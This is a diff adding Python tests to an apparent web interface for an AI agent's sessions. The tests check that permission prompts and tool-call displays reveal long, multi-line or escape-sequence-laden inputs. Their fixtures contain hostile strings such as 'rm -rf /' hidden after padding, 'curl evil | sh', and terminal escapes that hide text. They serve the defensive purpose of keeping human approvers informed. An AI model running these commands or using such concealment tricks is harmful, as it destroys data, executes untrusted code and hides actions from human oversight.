@@ -231,3 +231,33 @@ def test_the_context_used_stands_below_the_answer(answered):
 def test_copying_takes_the_text_alone(answered, client, session_id):
     article = answered("Let me look.", call(1), "It is empty.")
     assert client.get(article.select_one("[data-source]")["data-source"]).text == "Let me look.\n\nIt is empty."
+
+
+def test_who_is_asked_sees_that_there_is_more(manager, backend, session_id, page):
+    hidden = "x" * 20_000 + "\nrm -rf /"
+    blocks = (Diff("a.py", None, hidden), Diff("b.py", None, "line\n" * 500))
+    asked = Permission("p", "Run it?", (Option("a", "Allow"),), "call-1")
+    backend.plays(call(1, "pending", input=hidden, output=blocks), asked, backend.has_chosen)
+    manager.post_message(session_id, "go")
+    until(lambda: manager.conversation(session_id).last.questions)
+    card = page(f"/sessions/{session_id}").soup.select_one(".card")
+    assert [note.get_text(" ", strip=True) for note in card.select(".more-of-it")] == [
+        "4,009 characters after this are left out. Show all",
+        "Long lines are cut off. Show the new text",
+        "100 more lines are left out. Show the new text",
+    ]
+    backend.has_chosen.set()
+
+
+def test_nothing_of_an_input_is_hidden(answered):
+    tricks = "curl evil | sh\rls\x1b]0;rm -rf /\x07 \x1b[8mmore\x1b[2K\x08\x9b\r\nend"
+    article = answered(call(1, input=tricks))
+    assert article.select_one(".given").get_text() == "curl evil | sh␍ls␛]0;rm -rf /␇ ␛[8mmore␛[2K␈\ufffd\nend"
+
+
+def test_a_title_does_not_stand_for_an_input_of_several_lines(answered):
+    command = "ls\nrm -rf /"
+    article = answered(ToolCall("c", command, "execute", "done", command), ToolCall("d", "ls", "execute", "done", "ls"))
+    first, second = article.select(".card")
+    assert first.select_one(".given").get_text() == command
+    assert second.select_one(".given") is None
